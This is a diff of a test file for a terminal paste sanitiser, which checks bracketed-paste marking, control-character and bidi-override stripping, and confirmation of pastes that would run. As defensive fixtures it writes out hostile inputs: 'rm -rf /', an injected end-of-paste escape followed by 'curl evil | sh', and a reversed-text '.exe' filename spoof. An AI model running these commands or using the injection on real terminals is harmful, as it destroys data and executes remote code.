@@ -1,36 +1,49 @@
 import fc from 'fast-check';
 import { expect, test } from 'vitest';
-import { planPaste } from './paste.ts';
+import { cleanPaste, planPaste } from './paste.ts';
 
-const RUNS = Number(process.env['HOMEPORT_FUZZ_RUNS'] ?? 1000);
-
-/** Text with everything in it that could hurt, and whatever else there is. */
-const pasted = fc
-  .array(
-    fc.oneof(
-      fc.string({ unit: 'binary' }),
-      fc.constantFrom('\x1b[201~', '\x1b', '\x9b201~', '\r\n', '\n', '\x03', '\x15', '\u202e', 'ls'),
-    ),
-  )
-  .map((parts) => parts.join(''));
-
-test('I13: pasted text cannot end a bracketed paste or carry an escape sequence, whatever is in it', () => {
-  fc.assert(
-    fc.property(pasted, fc.boolean(), (text, bracketed) => {
-      const plan = planPaste(text, bracketed);
-      if (plan.kind === 'nothing') return;
-      const inside = bracketed ? plan.data.slice('\x1b[200~'.length, -'\x1b[201~'.length) : plan.data;
-      // biome-ignore lint/suspicious/noControlCharactersInRegex: controls are what must not be there
-      expect(inside).not.toMatch(/[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]/);
-      expect(plan.kind === 'send' && !bracketed && plan.data.includes('\r')).toBe(false);
-    }),
-    { numRuns: RUNS },
-  );
+test('one line goes out as it is', () => {
+  expect(planPaste('ls -la', false)).toEqual({ kind: 'send', data: 'ls -la' });
 });
 
-test('one line goes out as it is, several are shown first, a program that brackets gets them at once', () => {
-  expect(planPaste('ls -l', false)).toEqual({ kind: 'send', data: 'ls -l' });
-  expect(planPaste('a\r\nb\n', false)).toEqual({ kind: 'ask', text: 'a\nb\n', lines: 2, data: 'a\rb\r' });
-  expect(planPaste('a\nb', true)).toEqual({ kind: 'send', data: '\x1b[200~a\rb\x1b[201~' });
-  expect(planPaste('\x1b\x07', false)).toEqual({ kind: 'nothing' });
+test('several lines into a plain program are asked about, and shown as they would run', () => {
+  expect(planPaste('one\r\ntwo\n', false)).toEqual({ kind: 'ask', text: 'one\ntwo\n', lines: 2, data: 'one\rtwo\r' });
+});
+
+test('a single line that would run at once is asked about too', () => {
+  expect(planPaste('rm -rf /\n', false)).toMatchObject({ kind: 'ask', lines: 1 });
+});
+
+test('a program that asked for it gets its paste marked', () => {
+  expect(planPaste('one\ntwo', true)).toEqual({ kind: 'send', data: '\x1b[200~one\rtwo\x1b[201~' });
+});
+
+test('an end mark inside of the paste cannot end it early', () => {
+  expect(planPaste('a\x1b[201~; curl evil | sh\n', true)).toEqual({
+    kind: 'send',
+    data: '\x1b[200~a[201~; curl evil | sh\r\x1b[201~',
+  });
+  expect(cleanPaste('a\u009b201~b')).toBe('a201~b');
+});
+
+test('nothing but controls is nothing', () => {
+  expect(planPaste('\x00\x1b\x7f', false)).toEqual({ kind: 'nothing' });
+});
+
+test('characters that turn the reading direction are taken out, letters of all scripts stay', () => {
+  expect(cleanPaste('safe\u202etxt.exe')).toBe('safetxt.exe');
+  expect(cleanPaste('schön 日本語 🦊 שלום')).toBe('schön 日本語 🦊 שלום');
+});
+
+test('whatever is pasted, no control character but tab and carriage return goes out', () => {
+  fc.assert(
+    fc.property(fc.string({ unit: 'binary' }), (text) => {
+      for (const char of cleanPaste(text)) {
+        const code = char.codePointAt(0) ?? 0;
+        const control = code < 0x20 || (code >= 0x7f && code < 0xa0);
+        expect(control && code !== 0x09 && code !== 0x0d).toBe(false);
+      }
+    }),
+    { numRuns: 2000 },
+  );
 });
